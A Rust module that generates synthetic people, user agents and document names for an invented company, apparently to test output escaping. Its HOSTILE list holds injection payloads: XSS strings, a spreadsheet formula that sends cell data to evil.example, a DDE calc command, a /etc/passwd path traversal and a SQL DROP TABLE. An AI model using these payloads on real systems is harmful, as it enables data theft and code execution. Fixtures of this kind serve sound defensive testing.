//! Who acts and on what: people, their machines, the documents of an invented company; some with names that attack whoever shows them.

use super::random::Random;

/// Someone who signs in, or a program that does.
pub struct Person {
    pub id: String,
    pub email: String,
    pub name: String,
    pub account: &'static str,
    pub team: &'static str,
    pub country: &'static str,
    pub ips: [String; 3],
    pub agent: String,
    pub service: bool,
}

/// A workbook, dataset or the like.
pub struct Document {
    pub id: String,
    pub name: String,
    pub path: String,
}

const FIRST: [&str; 28] = [
    "amara", "bence", "carla", "daichi", "edith", "farouk", "gita", "henrik", "ilse", "jomo", "katya", "lamar",
    "maren", "nils", "oona", "pavel", "qiang", "renata", "sofia", "tomasz", "ursula", "vikram", "wanda", "xenia",
    "yara", "zoltan", "maria", "olu",
];
const LAST: [&str; 26] = [
    "abara", "bauer", "castro", "dubois", "egede", "ferrari", "greene", "hansen", "ibarra", "jung", "kowalski",
    "larsen", "mbeki", "nakamura", "osei", "petrov", "quiroga", "reyes", "sato", "thorne", "ullman", "vega", "walker",
    "xiong", "yilmaz", "ziegler",
];
pub const TEAMS: [&str; 12] = [
    "Finance",
    "Sales EMEA",
    "Sales AMER",
    "Marketing",
    "Operations",
    "People",
    "Product",
    "Support",
    "Security",
    "Data Platform",
    "Legal",
    "Executive, \"Board\"",
];
const ACCOUNTS: [&str; 5] = ["Viewer", "Explorer", "Creator", "Lite", "Admin"];
const COUNTRIES: [&str; 10] = ["US", "US", "US", "GB", "DE", "DE", "IN", "BR", "JP", "SE"];
const FOLDERS: [&str; 10] = [
    "Finance",
    "Sales",
    "Marketing",
    "Operations",
    "People",
    "Product",
    "Support",
    "Security",
    "Platform",
    "Legal",
];
const TOPICS: [&str; 18] = [
    "Revenue",
    "Pipeline",
    "Churn",
    "Headcount",
    "Inventory",
    "Tickets",
    "Budget",
    "Forecast",
    "Attribution",
    "Retention",
    "Margin",
    "Invoices",
    "Payroll",
    "Usage",
    "Renewals",
    "Incidents",
    "Shipping",
    "Hiring",
];
const SHAPES: [&str; 10] = [
    "overview",
    "scorecard",
    "deep dive",
    "weekly review",
    "planner",
    "ledger",
    "cohorts",
    "map",
    "tracker",
    "model",
];

/// Names as an attacker, or the world, would choose them.
pub const HOSTILE: [&str; 10] = [
    "<img src=x onerror=alert(document.domain)>",
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click me\")",
    "O'Brien, \"Bob\"",
    "Żółć Łukasz 🚀",
    "李小龍",
    "two\nlines",
    "</script><script>alert(1)</script>",
    "+1+cmd|' /C calc'!A0",
    "../../etc/passwd",
    "Robert'); DROP TABLE users;--",
];

/// Programs that open sessions; a few are hostile too.
pub fn agents(random: &mut Random) -> Vec<String> {
    (0..120)
        .map(|number| {
            let version = 128 + random.below(16);
            match number % 24 {
                0..=9 => format!(
                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36"
                ),
                10..=16 => format!(
                    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{}.{} Safari/605.1.15",
                    version % 20,
                    number % 7
                ),
                17..=20 => format!("Mozilla/5.0 (X11; Linux x86_64; rv:{version}.0) Gecko/20100101 Firefox/{version}.0"),
                21 => format!("python-requests/2.{}.{}", number % 33, number % 4),
                22 => format!("analytics-embed/3.{}.{} (+https://northwind.example)", number % 12, number % 9),
                _ => HOSTILE[number / 24 * 6 % HOSTILE.len()].replace('\n', " "),
            }
        })
        .collect()
}

/// Those of so many accounts that are people, all at browsers.
pub fn browsing(random: &mut Random, count: usize) -> Vec<Person> {
    let mut agents = agents(random);
    agents.retain(|agent| agent.starts_with("Mozilla"));
    let mut people = people(random, count, &agents);
    people.retain(|person| !person.service);
    people
}

/// The people of the company, the busiest first; one in fifty is a service account, one in forty has a hostile name.
pub fn people(random: &mut Random, count: usize, agents: &[String]) -> Vec<Person> {
    (0..count)
        .map(|number| {
            let (first, last) = (*random.pick(&FIRST), *random.pick(&LAST));
            let service = number % 50 == 11;
            let email = if service {
                format!(
                    "svc-{}{number}@automation.northwind.example",
                    ["export", "sync", "embed", "etl"][number / 50 % 4]
                )
            } else {
                format!(
                    "{first}.{last}{number}@{}",
                    if random.chance(0.93) {
                        "northwind.example"
                    } else {
                        "partner.example"
                    }
                )
            };
            let name = if number % 40 == 7 {
                HOSTILE[number / 40 % HOSTILE.len()].to_owned()
            } else {
                format!("{} {}", title(first), title(last))
            };
            let network = *random.pick(&["10.20", "10.31", "192.0.2", "198.51.100"]);
            let ips = [(); 3].map(|()| match network.matches('.').count() {
                1 => format!("{network}.{}.{}", random.below(256), 1 + random.below(254)),
                _ => format!("{network}.{}", 1 + random.below(254)),
            });
            Person {
                id: identifier(random, 22),
                email,
                name,
                account: if service {
                    "Creator"
                } else {
                    random.pick_early::<&str>(&ACCOUNTS)
                },
                team: random.pick::<&str>(&TEAMS),
                country: random.pick::<&str>(&COUNTRIES),
                ips,
                agent: random.pick_early(agents).clone(),
                service,
            }
        })
        .collect()
}

/// The documents of the company; one in thirty has a hostile name, others have commas, quotes, line ends and letters of many scripts.
pub fn documents(random: &mut Random, count: usize) -> Vec<Document> {
    (0..count)
        .map(|number| {
            let (topic, shape) = (*random.pick(&TOPICS), *random.pick(&SHAPES));
            let name = match number % 30 {
                13 => HOSTILE[number / 30 % HOSTILE.len()].to_owned(),
                3 | 18 => format!("{topic}, {shape} ({number})"),
                6 | 22 => format!("{topic} \"{shape}\" v{}", number % 17),
                9 => format!(
                    "{} {shape} {number}",
                    random.pick(&["Zürich", "東京", "São Paulo", "Łódź", "Δ margin", "🚀 launch"])
                ),
                27 => format!("{topic} {shape}\nsecond line of {number}"),
                _ => format!("{topic} {shape} {number}"),
            };
            let path = format!(
                "/{}/{}/{}/{}-{number:05}",
                random.pick(&FOLDERS),
                2021 + number % 6,
                topic,
                shape.replace(' ', "-")
            );
            Document {
                id: identifier(random, 16),
                name,
                path,
            }
        })
        .collect()
}

/// A short opaque identifier in base 62.
pub fn identifier(random: &mut Random, length: usize) -> String {
    const DIGITS: &[u8; 62] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    (0..length).map(|_| char::from(*random.pick(DIGITS))).collect()
}

fn title(word: &str) -> String {
    let mut letters = word.chars();
    letters
        .next()
        .map_or(String::new(), |first| first.to_uppercase().chain(letters).collect())
}
